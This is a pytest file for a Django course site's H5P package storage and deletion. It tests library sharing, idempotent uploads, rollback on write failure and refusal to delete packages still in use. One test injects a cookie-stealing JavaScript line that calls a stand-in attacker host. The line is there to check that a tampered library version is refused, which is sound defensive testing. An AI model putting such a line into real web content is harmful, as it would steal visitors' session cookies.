"""Storing shares libraries and is idempotent; deleting refuses while a page shows the package."""

import json

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.utils import translation

from courses.h5p.models import H5PLibrary, H5PPackage
from courses.h5p.selectors import h5p_libraries_resolve, h5p_package_pages
from courses.h5p.services import (
    H5PPackageInUseError,
    h5p_package_delete,
    h5p_package_store,
)
from courses.h5p.validation import H5PValidationError
from tests.factories import UserFactory

from .packages import h5p_zip, stored_files, valid_files, valid_package

pytestmark = pytest.mark.django_db


def test_a_package_is_stored_with_its_content_and_libraries(media_root):
    person = UserFactory()
    package = h5p_package_store(file=valid_package(), uploaded_by=person)

    assert package.title == "Vrai ou faux ?"
    assert package.language == "fr"
    assert package.uploaded_by == person
    assert str(package.main_library) == "H5P.Test 1.0.3"
    assert sorted(map(str, package.libraries.all())) == ["H5P.Helper 1.2.0", "H5P.Test 1.0.3"]
    assert package.content_path == f"h5p/content/{package.sha256}"
    assert stored_files(media_root) == sorted(
        [
            f"h5p/content/{package.sha256}/h5p.json",
            f"h5p/content/{package.sha256}/content/content.json",
            f"h5p/content/{package.sha256}/content/images/photo.png",
            "h5p/libraries/H5P.Helper-1.2.0/helper.js",
            "h5p/libraries/H5P.Helper-1.2.0/library.json",
            "h5p/libraries/H5P.Test-1.0.3/icon.svg",
            "h5p/libraries/H5P.Test-1.0.3/library.json",
            "h5p/libraries/H5P.Test-1.0.3/scripts/test.js",
            "h5p/libraries/H5P.Test-1.0.3/styles/test.css",
        ]
    )


def test_storing_the_same_file_twice_returns_the_stored_package(media_root):
    first = h5p_package_store(file=valid_package())
    files = stored_files(media_root)
    second = h5p_package_store(file=valid_package())
    assert second == first
    assert H5PPackage.objects.count() == 1
    assert H5PLibrary.objects.count() == 2
    assert stored_files(media_root) == files


def test_a_second_package_reuses_the_libraries_already_stored(media_root):
    h5p_package_store(file=valid_package())
    library = media_root / "h5p/libraries/H5P.Test-1.0.3/scripts/test.js"
    before = library.stat()
    second = h5p_package_store(file=valid_package(title="Another activity"))
    assert H5PLibrary.objects.count() == 2
    assert second.libraries.count() == 2
    after = library.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)


def test_each_package_keeps_the_exact_versions_it_was_validated_with(media_root):
    old = h5p_package_store(file=valid_package(test_patch=3))
    newer = h5p_package_store(file=valid_package(title="Newer", test_patch=5))
    assert H5PLibrary.objects.filter(machine_name="H5P.Test").count() == 2
    assert h5p_libraries_resolve(package=old)["H5P.Test-1.0"].patch == 3
    assert h5p_libraries_resolve(package=newer)["H5P.Test-1.0"].patch == 5


def test_the_same_version_with_other_files_is_refused_and_the_stored_one_untouched(media_root):
    h5p_package_store(file=valid_package(test_patch=3))
    stored = media_root / "h5p/libraries/H5P.Test-1.0.3/scripts/test.js"
    before = stored.read_bytes()
    files = valid_files(title="Hostile", test_patch=3)
    files["H5P.Test-1.0/scripts/test.js"] = "fetch('https://evil.example/' + document.cookie);"
    with translation.override("fr"), pytest.raises(H5PValidationError) as refused:
        h5p_package_store(file=h5p_zip(files))
    assert refused.value.code == "library_changed"
    assert "H5P.Test 1.0.3" in refused.value.message
    assert stored.read_bytes() == before
    assert H5PPackage.objects.count() == 1


def test_the_same_version_with_the_same_files_in_another_package_is_shared(media_root):
    h5p_package_store(file=valid_package(test_patch=3))
    files = valid_files(title="Other", test_patch=3)
    files["content/content.json"] = json.dumps({"question": "Autre ?"})
    other = h5p_package_store(file=h5p_zip(files))
    assert H5PLibrary.objects.count() == 2
    assert other.libraries.count() == 2


def test_a_failure_while_writing_leaves_no_file_and_no_row(media_root, monkeypatch):
    save = default_storage.save
    calls = []

    def failing_save(name, content, **kwargs):
        calls.append(name)
        if len(calls) == 5:
            raise OSError("disk full")
        return save(name, content, **kwargs)

    monkeypatch.setattr(default_storage, "save", failing_save)
    with pytest.raises(OSError, match="disk full"):
        h5p_package_store(file=valid_package())
    assert len(calls) == 5
    assert stored_files(media_root) == []
    assert not H5PPackage.objects.exists()
    assert not H5PLibrary.objects.exists()
    assert not (media_root / "h5p/libraries").exists() or not any(
        (media_root / "h5p/libraries").iterdir()
    )


def test_leftovers_of_an_interrupted_upload_are_replaced(media_root):
    stale = "h5p/libraries/H5P.Test-1.0.3/old.js"
    default_storage.save(stale, ContentFile(b"stale"))
    h5p_package_store(file=valid_package())
    assert not (media_root / stale).exists()
    assert (media_root / "h5p/libraries/H5P.Test-1.0.3/scripts/test.js").exists()


def test_an_unused_package_is_deleted_with_its_content_but_not_its_libraries(media_root):
    package = h5p_package_store(file=valid_package())
    content = media_root / package.content_path
    h5p_package_delete(package=package)
    assert not H5PPackage.objects.exists()
    assert H5PLibrary.objects.count() == 2
    assert not content.exists()
    assert (media_root / "h5p/libraries/H5P.Test-1.0.3/library.json").exists()


def test_a_package_shown_on_a_page_cannot_be_deleted(media_root, module_showing):
    package = h5p_package_store(file=valid_package())
    module = module_showing(package)
    assert [page.pk for page in h5p_package_pages(package=package)] == [module.pk]
    with pytest.raises(H5PPackageInUseError) as refused:
        h5p_package_delete(package=package)
    assert refused.value.count == 1
    with translation.override("en"):
        assert "used by 1 page" in refused.value.message
    assert H5PPackage.objects.filter(pk=package.pk).exists()
    assert (media_root / package.content_path / "h5p.json").exists()


def test_a_package_in_an_unpublished_draft_cannot_be_deleted(media_root, module_showing):
    package = h5p_package_store(file=valid_package())
    module = module_showing(None)
    module.steps = json.dumps(
        [{"type": "h5p", "value": {"title": "Brouillon", "package": package.pk}}]
    )
    module.save_revision()
    assert [page.pk for page in h5p_package_pages(package=package)] == [module.pk]
    with pytest.raises(H5PPackageInUseError):
        h5p_package_delete(package=package)


def test_a_page_showing_another_package_does_not_block_deletion(media_root, module_showing):
    package = h5p_package_store(file=valid_package())
    other = h5p_package_store(file=h5p_zip(valid_files(title="Other")))
    module_showing(other)
    assert h5p_package_pages(package=package) == []
    h5p_package_delete(package=package)
    assert not H5PPackage.objects.filter(pk=package.pk).exists()
